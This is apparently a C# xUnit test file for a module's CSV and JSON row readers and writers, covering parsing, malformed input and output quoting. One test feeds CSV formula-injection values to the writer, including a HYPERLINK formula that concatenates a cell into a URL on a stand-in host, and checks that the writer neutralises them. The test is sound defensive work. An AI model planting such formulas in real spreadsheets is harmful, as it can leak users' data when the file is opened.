using System.IO;
using System.Management.Automation;
using ModelFit.Tool.Rows;
using Xunit;

namespace ModelFit.Module.Tests.Tool;

/// <summary>The readers and writers of rows, by themselves.</summary>
public sealed class RowTests
{
    /// <summary>RFC 4180, section 2, and what Excel and Windows PowerShell make of it.</summary>
    [Theory]
    [InlineData("a,b\n1,2\n", "1|2")]
    [InlineData("a,b\r\n1,2\r\n\r\n3,4", "1|2/3|4")]
    [InlineData("a;b\n1,5;2\n", "1,5|2")]
    [InlineData("a\tb\n1\t2\n", "1|2")]
    [InlineData("sep=;\na;b\n1;2\n", "1|2")]
    [InlineData("#TYPE Selected.Thing\n\"a\",\"b\"\n\"1\",\"2\"\n", "1|2")]
    [InlineData("a,b\n\"x, y\",\"say \"\"hi\"\"\"\n", "x, y|say \"hi\"")]
    [InlineData("a,b\n\"two\nlines\",2\n", "two\nlines|2")]
    [InlineData("a,b\n1\n", "1|")]
    [InlineData("a,b\n1,2,3\n", "1|2")]
    [InlineData("a,b\n,\n", "|")]
    [InlineData("a,\n1,2\n", "1|2")]
    [InlineData("a,b\n", "")]
    [InlineData("", "")]
    public void Reads_csv(string text, string expected)
    {
        var rows = new CsvRows(new StringReader(text)).Read()
            .Select(row => string.Join('|', row.Properties.Select(property => property.Value)));
        Assert.Equal(expected, string.Join('/', rows));
    }

    [Theory]
    [InlineData("a,b\n1,\"open\n2,3\n")]
    [InlineData("a,A\n1,2\n")]
    public void Damaged_csv_is_a_format_error(string text) =>
        Assert.Throws<FormatException>(() => new CsvRows(new StringReader(text)).Read().ToArray());

    [Theory]
    [InlineData("""{"a":1}{"a":2}""", 2)]
    [InlineData("[{\"a\":1},{\"a\":2}]", 2)]
    [InlineData("{\"a\":1}\n{\"a\":2}\n", 2)]
    [InlineData("[[1,2],[3]]", 2)]
    [InlineData("[]", 0)]
    [InlineData("", 0)]
    [InlineData("\"text\" 5 null", 3)]
    public void Reads_json(string text, int count) =>
        Assert.Equal(count, new JsonRows(new StringReader(text)).Read().Count());

    [Fact]
    public void Json_keeps_nesting_and_text_that_looks_like_a_date()
    {
        var row = (PSObject)new JsonRows(new StringReader("""{"d":"2020-01-02","n":{"x":[1,"y"]}}""")).Read().Single()!;
        Assert.Equal("2020-01-02", row.Properties["d"].Value);
        var inner = (PSObject)row.Properties["n"].Value;
        Assert.Equal(new object[] { 1L, "y" }, (object[])inner.Properties["x"].Value);
    }

    [Theory]
    [InlineData("{")]
    [InlineData("[1,")]
    [InlineData("nothing")]
    [InlineData("{\"a\":1]")]
    public void Damaged_json_is_a_format_error(string text) =>
        Assert.Throws<FormatException>(() => new JsonRows(new StringReader(text)).Read().ToArray());

    [Fact]
    public void Deep_json_is_a_format_error() => Assert.Throws<FormatException>(
        () => new JsonRows(new StringReader(new string('[', 10_000))).Read().ToArray());

    [Fact]
    public void Writes_csv_with_quotes_where_they_are_needed()
    {
        using var writer = new StringWriter { NewLine = "\n" };
        var csv = new CsvText(writer);
        csv.Write(Row(("a", "x, y"), ("b", 1.5), ("c", null), ("nested", new[] { 1, 2 })));
        csv.Write(Row(("b", "say \"hi\""), ("a", true)));
        Assert.Equal("a,b,c\n\"x, y\",1.5,\nTrue,\"say \"\"hi\"\"\",\n", writer.ToString());
    }

    [Theory]
    [InlineData("=1+1")]
    [InlineData("+1")]
    [InlineData("-2+3")]
    [InlineData("@SUM(A1)")]
    [InlineData("\t=1")]
    [InlineData("=HYPERLINK(\"http://x/\"&A1)")]
    public void A_text_that_is_a_formula_in_a_spreadsheet_is_written_as_text_and_comes_back(string text)
    {
        using var writer = new StringWriter { NewLine = "\n" };
        new CsvText(writer).Write(Row(("a", text), ("number", -5)));
        Assert.StartsWith("'" + text[0], writer.ToString().Split('\n', 2)[1].TrimStart('"'), StringComparison.Ordinal);
        Assert.EndsWith(",-5\n", writer.ToString(), StringComparison.Ordinal);
        var row = new CsvRows(new StringReader(writer.ToString())).Read().Single();
        Assert.Equal(text, row.Properties["a"].Value);
    }

    [Fact]
    public void Writes_json_lines()
    {
        using var writer = new StringWriter { NewLine = "\n" };
        var json = new JsonText(writer);
        json.Write(Row(("a", "x\"y"), ("b", 1.5), ("c", null), ("d", new[] { 1, 2 }), ("e", Row(("f", 3L)))));
        json.Write(PSObject.AsPSObject("text"));
        Assert.Equal(
            """{"a":"x\"y","b":1.5,"c":null,"d":[1,2],"e":{"f":3}}""" + "\n\"text\"\n",
            writer.ToString());
    }

    private static PSObject Row(params (string Name, object? Value)[] members)
    {
        var row = new PSObject();
        foreach (var (name, value) in members) row.Properties.Add(new PSNoteProperty(name, value));
        return row;
    }
}
